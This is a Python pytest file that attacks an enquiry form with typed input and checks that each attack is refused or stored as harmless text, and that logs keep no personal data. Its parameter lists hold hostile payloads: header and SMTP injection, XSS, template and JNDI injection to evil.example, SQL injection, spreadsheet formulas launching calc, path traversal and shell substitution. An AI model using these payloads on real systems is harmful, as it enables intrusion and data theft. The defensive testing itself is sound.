"""Attacks with what is typed: each is refused in plain words, or stored as words; never more than that.

The list is section 3.7 of the research. Where each of its lines is tested:

line breaks, injected headers, double encoding, markup, templates, SQL, formulas, bad UTF-8, marks, directions,
lookalikes, mail to oneself, strange addresses, log inspection             here
erasing                                                                    test_erasing_for_good.py
sizes, numbers and names of fields, chunks, slow and short bodies, content types, methods, paths, header bombs,
what /healthz and /readyz tell                                             test_attacks_on_the_wire.py
redirects, foreign origins, tokens, clocks, keys, races, honeypot, X-Forwarded-For, blocks of addresses, links of the
daily letter, the acknowledgement                                          test_attacks_on_trust.py
what the coach sees: formulas in CSV, signs for a terminal                  the tests of the commands and letters
SMTP that refuses, hangs, drops or is slow                                 test_smtp.py, test_outbox.py
kill -9, full disk, read-only disk, locked database, jumping clock, PostgreSQL restarted, two senders of one row
                                                       test_conformance.py, test_postgresql.py, and the fault tests
"""

from __future__ import annotations

import json
import re
import uuid
from collections.abc import Iterator
from urllib.parse import urlencode

import pytest

from enquiry.enquiry import FIELDS, LONGEST
from tests.attacking import COACH, Attacked, attacked

TYPED = ("name", "email", "message", "phone", "reply_by", "topic", "reading", "reflections")
HEADERS = {
    "From",
    "To",
    "Reply-To",
    "Subject",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "MIME-Version",
    "Content-Type",
    "Content-Transfer-Encoding",
}
"""All that a letter to the coach may have; a mail server adds its own."""
ADDED_ON_THE_WAY = {"X-Peer", "X-MailFrom", "X-RcptTo", "Received", "Return-Path"}
BREAKERS = (
    "\r\n",
    "\r",
    "\n",
    "\0",
    "\v",
    "\f",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "%250d%250a",
    "\\r\\n",
    "=0D=0A",
)
MARKUP = (
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></form><form action=https://evil.example>",
    "</title><svg/onload=alert(1)>",
    "<!--",
    "]]>",
    "&lt;b&gt;&#60;",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE enquiry; --",
    "' OR '1'='1",
    '" UNION SELECT fields FROM enquiry --',
    ":reference %s %(name)s ? $1",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1|calc",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    'data-slot="value email"',
    "%s%n%x {0} {name!r}",
    "../../../../etc/passwd\0.txt",
    "`id` $(id) ; id | id",
)
CHARACTERS = {
    "not UTF-8": b"caf%E9%FF%FE%C0%AF%80",
    "raw bytes": b"caf\xe9\xff\xfe",
    "half a surrogate pair": b"a%ED%A0%80b%ED%BF%BF",
    "beyond Unicode": b"a%F4%90%80%80b",
    "a broken escape": b"a%ZZ%1%",
    "marks upon marks": ("Z" + "\u0300\u0301\u0302\u0489" * 2_000).encode(),
    "turned directions": "abc \u202e\u2066gnp.exe\u2069 \u200f\u200e \u061c".encode(),
    "lookalikes": "раураӏ АррӀе Ѕuрроrt".encode(),
    "byte order marks": b"\xef\xbb\xbfa\xef\xbf\xbe\xef\xbf\xbf",
    "every control character": bytes(f"%{byte:02X}" for byte in range(32))
    if False
    else "".join(f"a%{byte:02X}" for byte in (*range(32), 127)).encode(),
    "private and unassigned": "a\ue000\U000e0001\U000e0061\U0010ffff\U0001f469\u200d\U0001f4bb".encode(),
    "one long line": b"a" * 9_999,
    "lines of mail": b"a%0D%0A.%0D%0Ab%0A.%0Ac%0D.%0D%0D%0A.%0D%0AMAIL FROM:<a@evil.example>%0D%0ADATA%0D%0A",
}


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    with attacked(tmp_path_factory.mktemp("attacked")) as running:
        yield running


def check_letter(service: Attacked, reference: str) -> str:
    """A letter is plain text, to the coach alone, with no header but our own; returns its words."""
    posted = service.letter_about(reference)
    assert posted.recipients == (COACH,)
    message = posted.message
    assert set(message.keys()) - ADDED_ON_THE_WAY <= HEADERS
    assert len(message.keys()) == len(set(message.keys()))
    assert message["To"] == COACH
    assert message.get_content_type() == "text/plain"
    assert not message.is_multipart()
    assert "evil" not in "".join(text for name, text in message.items() if name not in ADDED_ON_THE_WAY)
    assert not message.defects
    return message.get_content()


@pytest.mark.parametrize("breaker", BREAKERS, ids=ascii)
def test_no_line_break_of_any_kind_makes_a_header_or_a_second_letter(service: Attacked, breaker: str) -> None:
    attack = (
        f"Ada{breaker}Bcc: all@evil.example{breaker}Content-Type: text/html{breaker}{breaker}<b>{breaker}.{breaker}QUIT"
    )
    for field in FIELDS:
        own = f"{uuid.uuid4().hex}\n" if field == "message" else ""
        reply = service.post(service.filled(**{field: own + attack[: LONGEST.get(field, 200)]}))
        if field == "email":
            assert (reply.status, reply.reference) == (422, "")
            continue
        assert reply.status == 303, (field, reply.text)
        row = service.row(reply)
        assert not re.search("[\0\r\v\f\x1c\x85\u2028\u2029]", "".join(row.values.values()))
        if field not in ("message", "reflections"):
            assert "\n" not in row.values[field]
        if row.state == "new":
            check_letter(service, row.reference)
        else:
            assert (field, row.codes) == ("website", {"honeypot_filled"})


@pytest.mark.parametrize("breaker", BREAKERS[:10], ids=ascii)
def test_an_address_never_reaches_further_than_itself(service: Attacked, breaker: str) -> None:
    for email in (
        f"ada@example.com{breaker}",
        f"ada@example.com{breaker}all@evil.example",
        f"ada{breaker}@evil.example",
        f"ada@example.com>{breaker}RCPT TO:<all@evil.example",
    ):
        reply = service.post(service.filled(email=email))
        if reply.status == 303:
            # What stood at the end has been cleaned off: it is a plain address again.
            assert service.row(reply).values["email"] in ("ada@example.com", "ada@evil.example")
        else:
            assert reply.status == 422


@pytest.mark.parametrize("attack", MARKUP)
def test_markup_templates_sql_and_formulas_are_words(service: Attacked, attack: str) -> None:
    reply = service.post(
        service.filled(name=f"Ada {attack}"[:200], topic=attack, message=f"First\n{attack}\nlast", reflections=attack)
    )
    row = service.row(reply)
    shown = attack.replace("\0", "").strip()
    assert row.values["reflections"] == shown
    assert row.values["message"] == f"First\n{attack}\nlast".replace("\0", "")
    assert row.state in ("new", "held")
    if row.state == "new":
        assert shown in check_letter(service, row.reference)
    assert not set(service.kept()) - {reference for reference in service.kept()}
    refused = service.post(service.filled(name=attack, message="", topic=attack, phone="1" * 61))
    assert refused.status == 422
    assert "text/html" in refused.headers["content-type"]
    if re.search('[<>"]', attack):
        assert attack not in refused.text


@pytest.mark.parametrize("characters", CHARACTERS.values(), ids=CHARACTERS.keys())
def test_any_characters_are_kept_as_far_as_they_are_characters(service: Attacked, characters: bytes) -> None:
    other = urlencode(
        {name: text for name, text in service.filled().items() if name not in ("message", "reflections")}
    ).encode()
    reply = service.post(other + b"&message=" + characters + b"&reflections=" + characters)
    row = service.row(reply)
    row.fields.encode("utf-8")
    assert row.values["message"]
    assert not re.search(
        "[\0-\x08\x0e-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069\ufeff]", row.values["message"]
    )
    if row.state == "new":
        check_letter(service, row.reference)
    named = service.post(
        other.replace(b"name=Ada+Walker", b"name=" + characters[:150]) + b"&message=" + uuid.uuid4().hex.encode()
    )
    assert named.status in (303, 422)


@pytest.mark.parametrize(
    ("email", "taken"),
    [
        (COACH, True),
        ("postmaster@example.com", True),
        ("mailer-daemon@example.com", True),
        ("ada+tag+tag@example.com", True),
        ("ada@bücher.example", True),
        ("ada@xn--bcher-kva.example", True),
        ("zoë@example.com", True),
        ('"ada walker"@example.com', False),
        ('"ada@evil.example"@example.com', False),
        ("ada@[127.0.0.1]", False),
        ("ada@localhost", False),
        ("ada@example.com,all@evil.example", False),
        ("Ada <ada@example.com>", False),
        ("ada@example.com ada@evil.example", False),
        ("ada%evil.example@example.com", True),
        ("@evil.example:ada@example.com", False),
        ("evil.example!ada@example.com", True),
        ("|/bin/sh@example.com", True),
        ("-oQ/tmp@example.com", True),
        ("ada@example.com?bcc=all@evil.example", False),
        ("mailto:ada@example.com", False),
        ("ada@example..com", False),
        ("ada@" + "a" * 64 + ".example.com", False),
        ("a" * 65 + "@example.com", True),
        ("a" * 250 + "@example.com", False),
        ("<>", False),
    ],
)
def test_mail_goes_to_the_coach_alone_whatever_address_is_given(service: Attacked, email: str, taken: bool) -> None:
    reply = service.post(service.filled(email=email))
    assert reply.status == (303 if taken else 422)
    if taken:
        posted = service.letter_about(reply.reference)
        assert posted.recipients == (COACH,)
        assert service.row(reply).state == "new"


def test_who_gives_the_coach_s_own_address_is_weighed_and_starts_no_loop(service: Attacked) -> None:
    reply = service.post(service.filled(email=COACH))
    assert service.row(reply).codes == {"own_address"}
    message = service.letter_about(reply.reference).message
    assert message["Auto-Submitted"] == "auto-generated"
    assert sum(reply.reference.encode() in posted.content for posted in service.office.letters) == 1


PERSONAL = {
    "name": "Hildegard-Personal",
    "email": "hildegard-personal@private.example",
    "message": "Of my mother I say: secret-words-of-mine",
    "phone": "+44 1632 960 961",
    "topic": "topic-of-my-own",
    "reflections": "reflections-of-my-own",
}
PRIVATE = [*PERSONAL.values(), "secret-words-of-mine", "hildegard", "198.51.100.23", "Firefox-of-mine", "960 961"]


def test_no_log_holds_anything_of_anybody(service: Attacked) -> None:
    headers = {
        "X_Forwarded_For": "198.51.100.23",
        "User_Agent": "Firefox-of-mine",
        "Referer": f"https://x.example/{PRIVATE[1]}",
    }
    ways = (
        {},
        {"token": ""},
        {"website": "x"},
        {"email": "hildegard-personal@private"},
        {"message": "secret-words-of-mine " * 1_000},
        {"confirm": "hildegard"},
        {"key": "hildegard"},
    )
    for changed in ways:
        service.post(service.filled(**PERSONAL | changed), **headers)
        service.post(service.filled(**PERSONAL | changed), Accept="application/json", **headers)
    service.post(urlencode(PERSONAL).encode() * 20, **headers)
    service.post(urlencode(PERSONAL).encode(), Content_Type="text/plain", **headers)
    service.post(urlencode(PERSONAL).encode() + b"a" * (3 << 20), **headers)
    service.ask(
        "GET", "/contact/thanks/?r=hildegard&x=secret-words-of-mine", headers={"X-Forwarded-For": "198.51.100.23"}
    )
    service.ask("POST", "/contact/not-spam/?r=hildegard&s=hildegard")
    service.raw(b"hildegard secret-words-of-mine\r\n\r\n")
    everything = service.log
    assert everything.count('"enquiry kept"') > 3, "the log was searched"
    assert [word for word in PRIVATE if word.lower() in everything.lower()] == []
    for line in everything.splitlines():
        if line.startswith("{"):
            assert json.loads(line)["event"]
